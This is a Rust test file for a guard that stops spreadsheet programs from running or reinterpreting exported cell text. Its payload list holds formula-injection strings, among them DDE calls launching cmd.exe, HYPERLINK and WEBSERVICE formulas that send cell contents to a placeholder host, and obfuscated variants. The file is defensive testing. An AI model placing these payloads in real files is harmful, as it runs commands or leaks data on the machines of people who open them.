//! The guards, held against texts that spreadsheet programs run or change.

use proptest::prelude::*;

use super::*;

/// Texts that one of the three programs converts to a number, a date, a time or another value.
pub(in crate::output) const CHANGED: &[&str] = &[
    "65E8",
    "12E10",
    "1e5",
    "+1E3",
    "1.5E3",
    "1E-2",
    "2E+5",
    "3/4",
    "1-2",
    "2026-1",
    "1/2/3",
    "1 1/2",
    "2026/11/22",
    "5-Mar",
    "Mar-5",
    "Mar 5",
    "5 March 2026",
    "MARCH1",
    "SEPT2",
    "DEC1",
    "Jan 2026",
    "1月2日",
    "2026年1月",
    "2026年11月22日",
    "10时30分",
    "下午3:20",
    "10:30",
    "10:30 PM",
    "1:2",
    "12:30:45",
    "$5",
    "¥5",
    "€5",
    "(5)",
    "TRUE",
    "false",
    "#N/A",
    "#DIV/0!",
    "2026-11-22T10:20:30",
    "1,2",
    "1,2,3",
    "1.2.3",
    "5-",
    "１２３",
    "００１",
    "１２Ｅ１０",
    "３／４",
    "1\u{a0}1/2",
    "5 %",
    ".5E3",
    "1.E3",
    "3/4/",
    "192.168.1.10",
];

/// Texts that one of the three programs runs, or once ran, and disguised variants.
pub(in crate::output) const PAYLOADS: &[&str] = &[
    "=1+1",
    "=1+1\"",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C notepad'!'A1'",
    "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")",
    "=IMPORTXML(\"http://e.example\",\"//a\")",
    "=IMPORTDATA(\"http://e.example\")",
    "=WEBSERVICE(\"http://e.example/?\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc'!A",
    "=A1",
    "=-1",
    "=+1",
    "=@A1",
    "= 1+1",
    "==1",
    "=\"\"",
    "=\"a\"&A1",
    "={1,2}",
    "=TRUE",
    "=1/0",
    "=INDIRECT(\"A1\")",
    "+1+1",
    "+A1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "+\"a\"",
    "+1-1",
    "++1",
    "+-1",
    "+1*2",
    "+(1)",
    "+1E5+1",
    "-1+1",
    "-1-1",
    "-A1",
    "-cmd|' /C calc'!A0",
    "-SUM(1)",
    "--1",
    "-+1",
    "-1*2",
    "-(1)",
    "-2+3+cmd|' /C calc'!A0",
    "-139-0000",
    "-",
    "+",
    "=",
    "@",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@=1+1",
    "@1",
    "@user",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tx",
    "\rx",
    " =1+1",
    "  -1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u{3000}＝1+1",
    "﹦1+1",
    "\u{2212}1+1",
];

fn written(text: &str, kind: Kind) -> String {
    guarded(text.into(), &Cell::Text(text.into()), kind).into_owned()
}

#[test]
fn no_payload_can_run() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        for kind in [Kind::Text, Kind::Id, Kind::Phone, Kind::Count, Kind::Time, Kind::Flag, Kind::Code(&[])]
        {
            let text = written(payload, kind);
            let quoted = text.strip_prefix("=\"").and_then(|text| text.strip_suffix('"'));
            let harmless = quoted.is_some_and(|text| !text.contains(['"', '=', '@']));
            assert!(harmless || text == format!("'{payload}"), "{payload:?} is {text:?}");
        }
    }
}

#[test]
fn numbers_percentages_and_telephone_numbers_are_unharmed() {
    for text in [
        "-5",
        "-12.5",
        "+7",
        "-5%",
        "+12.5%",
        "-1,234.50",
        "0",
        "0.5",
        "-0.5",
        "12345678901",
        "3月",
        "a=b",
        "a-1",
    ] {
        assert_eq!(written(text, Kind::Text), text);
    }
    for text in ["+86 139 0000 0001", "+8613900000001", "+86-139-0000-0001", "+86 (10) 8888-0000"] {
        assert_eq!(written(text, Kind::Text), format!("=\"{text}\""));
    }
    assert_eq!(guarded("-5".into(), &Cell::Count(-5), Kind::Count), "-5");
}

#[test]
fn other_texts_are_unharmed() {
    for text in [
        "KF-72", "E12", "a-1", "3月", "5日内", "3天", "12V", "65寸", "1x2", "3/4寸", "Mar", "March",
        "5 Marks", "1-2楼", "10:30到", "2026年", "truely", "#1", "# 5", "10元", "国1/2", "1\n2", "no. 5",
        "Q1", "1st", "5G", "4K", "",
    ] {
        assert_eq!(written(text, Kind::Text), text);
    }
}

#[test]
fn a_number_that_is_a_name_stays_text() {
    for text in ["123456789012", "12345678901234567890", "007", "-123456789012", "1.234567890123"] {
        assert_eq!(written(text, Kind::Text), format!("=\"{text}\""));
    }
    for text in ["1E5", "2026-11", "400-800-1234", "10,11", "1/2", "-1"] {
        assert_eq!(written(text, Kind::Id), format!("=\"{text}\""));
    }
    assert_eq!(written("7078103", Kind::Id), "7078103");
    assert_eq!(written(&"1".repeat(300), Kind::Id), format!("'{}", "1".repeat(300)));
}

#[test]
fn blanks_around_it_make_no_name_a_number() {
    for blank in [" ", "\u{a0}", "\u{3000}", "\u{2003}", "\u{200b}", "\u{feff}", "  \u{a0}"] {
        for name in ["123456789012345678", "00123", "3/4"] {
            for text in [format!("{name}{blank}"), format!("{blank}{name}"), format!("{blank}{name}{blank}")]
            {
                assert_eq!(written(&text, Kind::Text), format!("=\"{text}\""));
            }
        }
        assert_eq!(written(&format!("12{blank}"), Kind::Text), format!("12{blank}"));
    }
    assert_eq!(written("00123\t", Kind::Text), "'00123\t");
}

#[test]
fn a_text_that_would_become_a_value_stays_text_but_a_moment_is_one() {
    for text in CHANGED {
        assert_eq!(written(text, Kind::Text), format!("=\"{text}\""));
        assert_eq!(written(text, Kind::Code(&[])), format!("=\"{text}\""));
    }
    for text in ["2026/1/2", "1月2日", "10:30", "2026-11-22T10:20:30"] {
        assert_eq!(written(text, Kind::Time), text);
    }
}

#[test]
fn no_file_begins_like_sylk() {
    for (heading, safe) in [("ID", "Id"), ("ID号", "Id号"), ("id", "id"), ("SKU", "SKU")] {
        let mut text = heading.to_owned();
        first_heading(&mut text);
        assert_eq!(text, safe);
    }
}

proptest! {
    #[test]
    fn whatever_begins_a_formula_is_a_number_or_guarded(text in "[=+@\\-＝＋－＠ \t\r]{1,3}\\PC{0,12}") {
        let written = written(&text, Kind::Text);
        let quoted = written.starts_with("=\"") && written.ends_with('"') && !written[2..written.len() - 1].contains(['"', '=', '@']);
        prop_assert!(written.starts_with('\'') || quoted || is_number(&text) || !would_run(&text), "{written:?}");
    }
}
